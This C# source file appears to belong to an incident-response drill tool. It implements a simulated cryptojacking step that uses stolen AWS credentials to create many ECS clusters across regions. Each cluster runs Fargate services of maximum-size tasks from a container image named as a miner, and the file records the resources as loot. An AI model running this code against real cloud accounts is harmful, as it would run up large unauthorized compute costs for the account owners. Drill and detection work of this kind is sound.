using Amazon.ECS;
using Amazon.ECS.Model;
using Task = System.Threading.Tasks.Task;

namespace ResponseKit.Cli.Drill.Attack;

/// <summary>Dozens of clusters, each with a Fargate service of the biggest tasks there are.</summary>
internal sealed class EcsMining : IAttackStep
{
    public async Task RunAsync(AttackContext context, CancellationToken cancellationToken)
    {
        var subnets = new Dictionary<string, string>(StringComparer.Ordinal);
        foreach (var region in context.Size.Regions)
            subnets[region] = await Networks.DefaultSubnetAsync(context.Stolen, region, cancellationToken);
        var made = 0;
        await Parallel.ForEachAsync(
            Enumerable.Range(0, context.Size.Clusters),
            new ParallelOptions { MaxDegreeOfParallelism = 4, CancellationToken = cancellationToken },
            async (index, token) =>
            {
                await CreateClusterAsync(context, context.Size.RegionOf(index), subnets[context.Size.RegionOf(index)], token);
                if (Interlocked.Increment(ref made) % 13 == 0)
                    context.Timeline.Attacker($"{made} of {context.Size.Clusters} ECS clusters are mining, {context.Size.TasksPerService} Fargate tasks of 16 vCPU each");
            });
    }

    private static async Task CreateClusterAsync(AttackContext context, string region, string subnet, CancellationToken cancellationToken)
    {
        var ecs = context.Stolen.Aws.Ecs(region);
        var name = context.RandomName(12);
        await ecs.CreateClusterAsync(new CreateClusterRequest { ClusterName = name }, cancellationToken);
        context.Loot.Clusters.Add((region, name));
        var definition = (await ecs.RegisterTaskDefinitionAsync(TaskDefinition(name), cancellationToken)).TaskDefinition.TaskDefinitionArn;
        context.Loot.TaskDefinitions.Add((region, definition));
        var network = new AwsVpcConfiguration { AssignPublicIp = AssignPublicIp.ENABLED, Subnets = [subnet] };
        await ecs.CreateServiceAsync(
            new CreateServiceRequest
            {
                Cluster = name,
                ServiceName = name,
                TaskDefinition = definition,
                LaunchType = LaunchType.FARGATE,
                DesiredCount = context.Size.TasksPerService,
                NetworkConfiguration = new NetworkConfiguration { AwsvpcConfiguration = network },
            },
            cancellationToken);
    }

    private static RegisterTaskDefinitionRequest TaskDefinition(string name) => new()
    {
        Family = name,
        NetworkMode = NetworkMode.Awsvpc,
        Cpu = "16384",
        Memory = "32768",
        RequiresCompatibilities = ["FARGATE"],
        ContainerDefinitions = [new ContainerDefinition { Name = name, Image = "miner01/secret:user", Essential = true, Command = ["/bin/sh", "-c", "./run.sh"] }],
    };
}
